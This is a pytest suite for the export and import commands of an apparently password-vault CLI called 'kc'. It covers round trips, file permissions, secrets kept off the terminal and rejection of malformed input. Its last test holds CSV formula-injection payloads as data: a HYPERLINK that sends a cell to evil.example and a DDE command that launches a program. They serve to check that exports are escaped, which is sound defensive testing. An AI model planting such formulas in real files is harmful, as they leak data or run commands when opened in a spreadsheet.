"""kc export and kc import json through the binary: a lossless round trip into a fresh vault (every
attribute, date, id and binary secret), -o creating a new 0600 file, no secrets to a terminal,
bad input refused with its line and the vault untouched, --dry-run and --partial."""
import json
import os

import pexpect
import pytest

from kcharness import EXIT_CANCELED, EXIT_PARAM, FAST_KDF, KC, assert_failure

BINARY_SECRET = bytes(range(256))


@pytest.fixture
def source(kc_ready):
    kc = kc_ready
    kc.add_generic("github.com", "me@example.com", "pa,ss\"word\nline two", "-l", "GitHub", "-D", "web login",
                   "-j", "Ворота, \"quoted\"", "-G", "generic attr")
    kc.add_generic("binary.example", "ops", BINARY_SECRET, "-l", "Été binaire")
    kc.add_internet("ftp.example.com", "deploy", "ftp-✓-secret", "-r", "ftps", "-P", "2121", "-p", "/srv/x",
                    "-d", "realm", "-t", "http-basic", "-l", "FTP", "-D", "desc", "-j", "comment")
    kc.add_internet("bare.example", None, "x")
    kc.add_generic("empty.example", "", "y", "-l", "")         # empty values, not unset ones
    return kc


@pytest.fixture
def target(kc_bin, tmp_path):
    kc = KC(kc_bin, tmp_path / "target-home")
    kc.init()
    return kc


def dump(kc) -> list:
    """Every item with its secret, from `find --all --json -w`."""
    return json.loads(kc.ok(["find", "--all", "--json", "-w"]).stdout)


def exported(kc, *extra) -> list:
    return json.loads(kc.ok(["export", *extra]).stdout)


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_round_trip_keeps_ids_dates_attributes_and_binary_secrets(source, target, tmp_path, fmt):
    path = tmp_path / f"export.{fmt}"
    source.ok(["export", "--format", fmt, "--with-secrets", "-o", path])
    result = target.ok(["import", fmt, path])
    assert "5 added, 0 skipped as duplicate, 0 rejected" in result.stderr
    assert dump(target) == dump(source)
    assert exported(target) == exported(source)        # ids and dates to the millisecond
    items = exported(source)
    assert all(len(item["id"]) == 32 and isinstance(item["createdMs"], int) for item in items)
    binary = next(item for item in dump(target) if item.get("service") == "binary.example")
    import base64
    assert base64.b64decode(binary["passwordBase64"]) == BINARY_SECRET


def test_export_without_secrets_has_every_attribute_and_no_secret(source):
    items = exported(source)
    assert len(items) == 5
    assert not any("password" in item or "passwordBase64" in item for item in items)
    ftp = next(item for item in items if item.get("server") == "ftp.example.com")
    assert {k: ftp[k] for k in ("protocol", "port", "path", "securityDomain", "authenticationType", "account",
                                "label", "description", "comment")} == {
        "protocol": "ftps", "port": 2121, "path": "/srv/x", "securityDomain": "realm",
        "authenticationType": "http-basic", "account": "deploy", "label": "FTP", "description": "desc",
        "comment": "comment"}
    assert "ftp-✓-secret" not in source.ok(["export"]).stdout


def test_importing_twice_skips_duplicates_by_key(source, target, tmp_path):
    path = tmp_path / "export.json"
    source.ok(["export", "--with-secrets", "-o", path])
    target.ok(["import", "json", path])
    assert {item["id"] for item in exported(target)} == {item["id"] for item in json.loads(path.read_text())}, \
        "into a vault that never held an item, the ids are kept (a restore)"
    again = target.ok(["import", "json", path])
    assert "0 added, 5 skipped as duplicate" in again.stderr
    # Into a vault that holds items, an item gets a new id: the file's id may be another machine's
    # item of this vault (its export), which the import must not become another version of.
    items = json.loads(path.read_text())
    items[0]["service"] = "renamed.example"
    renamed = tmp_path / "renamed.json"
    renamed.write_text(json.dumps(items))
    assert "1 added, 4 skipped as duplicate" in target.ok(["import", "json", renamed]).stderr
    added = next(item for item in exported(target) if item.get("service") == "renamed.example")
    assert added["id"] != items[0]["id"] and added["id"] not in {item["id"] for item in items}


def test_output_file_is_new_and_private(source, tmp_path):
    path = tmp_path / "out.json"
    source.ok(["export", "--with-secrets", "-o", path])
    assert source.mode(path) == 0o600
    before = path.read_bytes()
    assert_failure(source.run(["export", "--with-secrets", "-o", path]), "errSecParam")
    assert path.read_bytes() == before
    link = tmp_path / "link.json"
    os.symlink(tmp_path / "elsewhere.json", link)
    assert_failure(source.run(["export", "-o", link]), "errSecParam")
    assert not (tmp_path / "elsewhere.json").exists()


def test_secrets_are_refused_to_a_terminal(source):
    child = source.spawn(["export", "--with-secrets"])
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == EXIT_PARAM
    assert "errSecParam" in child.before and "s3cret" not in child.before and "ftp-✓-secret" not in child.before


def test_a_terminal_is_asked_before_secrets_are_written(source, tmp_path):
    path = tmp_path / "asked.json"
    child = source.spawn(["export", "--with-secrets", "-o", str(path)])
    child.expect_exact("[y/N] ")
    child.sendline("n")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == EXIT_CANCELED and not path.exists()
    child = source.spawn(["export", "--with-secrets", "-o", str(path)])
    child.expect_exact("[y/N] ")
    child.sendline("y")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0 and "ftp-✓-secret" in path.read_text()


CSV_HEADER = ("id,class,created,modified,createdMs,modifiedMs,service,server,protocol,port,path,securityDomain,"
              "authenticationType,account,label,description,comment,generic,requirePassword,thisDeviceOnly,password,passwordBase64")


def csv_row(**cells) -> str:
    return ",".join(cells.get(name, "") for name in CSV_HEADER.split(","))


def test_csv_is_rfc_4180_with_binary_secrets_in_their_column(source):
    import csv
    import io
    text = source.ok(["export", "--format", "csv", "--with-secrets"]).stdout
    assert text.startswith(CSV_HEADER + "\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    github = next(row for row in rows if row["service"] == "github.com")
    assert github["password"] == "pa,ss\"word\nline two" and github["passwordBase64"] == ""
    assert github["comment"] == "Ворота, \"quoted\""
    binary = next(row for row in rows if row["service"] == "binary.example")
    import base64
    assert binary["password"] == "" and base64.b64decode(binary["passwordBase64"]) == BINARY_SECRET
    without = list(csv.DictReader(io.StringIO(source.ok(["export", "--format", "csv"]).stdout, newline="")))
    assert len(without) == 5 and all(row["password"] == row["passwordBase64"] == "" for row in without)


BAD_CSV = {
    "wrong_columns": ("id,class,service,password\n,generic,a,x\n", 1),
    "missing_password": (CSV_HEADER + "\n" + csv_row(**{"class": "generic", "service": "a", "password": "x"}) + "\n"
                         + csv_row(**{"class": "generic", "service": "b"}) + "\n", 3),
    "row_too_short": (CSV_HEADER + "\n" + csv_row(**{"class": "generic", "service": "a", "password": "x"}) + "\n"
                      + "\n" + ",generic,,,,,b\n", 4),
    "truncated_quote": (CSV_HEADER + "\n" + csv_row(**{"class": "generic", "service": "a", "password": "x"}) + "\n"
                        + csv_row(**{"class": "generic", "service": "b", "password": '"never\nclosed'}), 3),
    "invalid_utf8": (CSV_HEADER + "\n" + csv_row(**{"class": "generic", "service": "a", "password": "x"}) + "\n"
                     + csv_row(**{"class": "generic", "service": "\udcff", "password": "x"}) + "\n", 3),
    "bad_date": (CSV_HEADER + "\n" + csv_row(**{"class": "generic", "service": "a", "createdMs": "yesterday",
                                                "password": "x"}) + "\n", 2),
    "bad_port": (CSV_HEADER + "\n\n" + csv_row(**{"class": "internet", "server": "a", "port": "99999", "password": "x"}), 3),
}


@pytest.mark.parametrize("name", sorted(BAD_CSV))
def test_bad_csv_names_its_line_and_writes_nothing(kc_ready, tmp_path, name):
    contents, line = BAD_CSV[name]
    path = tmp_path / "bad.csv"
    path.write_bytes(contents.encode("utf-8", "surrogateescape"))
    before = kc_ready.vault_path.read_bytes()
    result = kc_ready.run(["import", "csv", path])
    assert_failure(result, "errSecDecode")
    assert f"kc: error: {path}:{line}: " in result.stderr, result
    assert kc_ready.vault_path.read_bytes() == before


BAD_INPUTS = {
    "invalid_json": (b'[\n{"class": "generic", "service": "a", "password": "x"},\n{"class": oops}\n]\n', 3),
    "truncated": (b'[\n{"class": "generic", "service": "a", "password": "x"},\n{"class": "generic", "serv', 3),
    "invalid_utf8": (b'[\n{"class": "generic", "service": "a", "password": "x"},\n{"class": "generic", "service": "\xff", "password": "y"}\n]\n', 3),
    "missing_password": (b'[\n{"class": "generic", "service": "a", "password": "x"},\n\n{"class": "generic", "service": "b"}\n]\n', 4),
    "unknown_key": (b'[{"class": "generic", "service": "a", "password": "x"},\n{"class": "generic", "server": "b", "password": "y"}]', 2),
    "bad_base64": (b'[\n{"class": "generic", "service": "a", "passwordBase64": "!!!!"}]', 2),
    "bad_port": (b'[\n{"class": "internet", "server": "a", "port": 70000, "password": "x"}]', 2),
    "empty": (b'', 1),
}


@pytest.mark.parametrize("name", sorted(BAD_INPUTS))
def test_bad_input_names_its_line_and_writes_nothing(kc_ready, tmp_path, name):
    contents, line = BAD_INPUTS[name]
    path = tmp_path / "bad.json"
    path.write_bytes(contents)
    before = kc_ready.vault_path.read_bytes()
    result = kc_ready.run(["import", "json", path])
    assert_failure(result, "errSecDecode")
    assert f"kc: error: {path}:{line}: " in result.stderr, result
    assert kc_ready.vault_path.read_bytes() == before


def test_dry_run_writes_nothing(source, target, tmp_path):
    path = tmp_path / "export.json"
    source.ok(["export", "--with-secrets", "-o", path])
    before = target.vault_path.read_bytes()
    result = target.ok(["import", "json", "--dry-run", path])
    assert "5 would be added" in result.stderr and result.stdout.count("would add") == 5
    assert target.vault_path.read_bytes() == before


def test_partial_keeps_the_good_items(kc_ready, tmp_path):
    path = tmp_path / "mixed.json"
    path.write_bytes(b'[\n{"class": "generic", "service": "good", "password": "x"},\n{"class": "generic", "service": "bad"}\n]\n')
    result = kc_ready.ok(["import", "json", "--partial", path])
    assert "rejected item 1 (line 3): no password" in result.stdout
    assert "1 added, 0 skipped as duplicate, 1 rejected" in result.stderr
    assert [item["service"] for item in dump(kc_ready)] == ["good"]


@pytest.mark.parametrize("fault", ["write:1:ENOSPC", "fsync:1:EIO"])
def test_a_failed_write_is_an_error_and_leaves_no_file(source, tmp_path, fault):
    """A full disk or a failing fsync must not leave a cut-short export that passes for a whole one
    (the debug build's fault seam fails the first such step: opening the vault to read writes nothing)."""
    path = tmp_path / "full.json"
    result = source.run(["export", "--with-secrets", "-o", path], fault=fault)
    assert_failure(result, "errSecIO")
    assert not path.exists()


FORMULAS = {"service": '=HYPERLINK("http://evil.example/?"&A1,"x")', "account": "=1+2", "comment": "@SUM(1)",
            "label": "-2+3", "description": "+1", "generic": "\tcmd"}


def test_csv_cells_a_spreadsheet_reads_as_formulas_are_guarded_and_round_trip(kc_ready, target, tmp_path):
    """Security review L6: a cell beginning with =, +, -, @, tab or CR (an attribute or, with
    --with-secrets, a password) is written with a leading apostrophe, so a spreadsheet shows it as
    text; kc's own CSV import takes the apostrophe off again, and an apostrophe kc did not add stays."""
    import csv
    import io
    kc = kc_ready
    kc.add_generic(FORMULAS["service"], FORMULAS["account"], "=cmd|' /C calc'!A0", "-j", FORMULAS["comment"],
                   "--label=" + FORMULAS["label"], "--description=" + FORMULAS["description"], "-G", FORMULAS["generic"])
    kc.add_generic("'=quoted already", "'plain", "-pw")
    path = tmp_path / "export.csv"
    kc.ok(["export", "--format", "csv", "--with-secrets", "-o", path])
    rows = list(csv.DictReader(io.StringIO(path.read_text(), newline="")))
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row.values()), rows
    row = next(row for row in rows if row["account"] == "'=1+2")
    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
    assert row["password"] == "'=cmd|' /C calc'!A0"
    other = next(row for row in rows if row["account"] == "'plain")
    assert (other["service"], other["password"]) == ("''=quoted already", "'-pw")
    target.ok(["import", "csv", path])
    assert dump(target) == dump(kc)
    assert exported(target) == exported(kc)
